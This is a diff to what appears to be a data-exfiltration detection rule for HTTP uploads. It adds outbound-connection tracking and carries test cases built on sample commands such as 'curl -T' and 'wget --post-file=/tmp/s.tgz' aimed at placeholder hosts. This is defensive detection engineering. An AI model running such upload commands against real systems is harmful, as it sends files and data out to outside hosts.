@@ -13,7 +13,7 @@ from evidence.kinds.login import SessionOpen
 from ..alert import Severity
 from ..outflow import FORGET, NEW, SECOND, Outflow, Work, is_new, moved, signs_before
 from ..record import Record
-from ..rule import Correlation, Finding, Parameter, Site, Step, Story
+from ..rule import Connections, Correlation, Finding, Parameter, Site, Step, Story
 from ..session_work import READERS, command, is_foreign, leaving, sender
 
 _BYTES = Parameter("bytes", 100_000, "bytes", "a question with all its headers is under 20 kB, a webhook too")
@@ -66,6 +66,10 @@ def _how(name: str, words: str) -> str:
     return f"with {name} {flag[1]}" if flag is not None else f"with {name}"
 
 
+def _connections(site: Site) -> Connections:
+    return Connections("out", unknown=True, programs=site.words(_ID, _CLIENTS))
+
+
 _ID = "http-upload"
 _TO = Endpoint(ip="203.0.113.9", port=443, name="transfer.example")
 _BACKUP = Endpoint(ip="192.0.2.10", port=443)
@@ -100,6 +104,7 @@ CORRELATION = Correlation(
     state=Outflow,
     step=_step,
     parameters=(_BYTES, NEW, FORGET, _CLIENTS, _WINDOW, _READERS),
+    connections=_connections,
     hits=(
         Story("curl -T", (Step(0, _sent(3_000_000, _CURL)),)),
         Story("wget --post-file", (Step(0, _sent(400_000, "wget --post-file=/tmp/s.tgz http://x.example")),)),
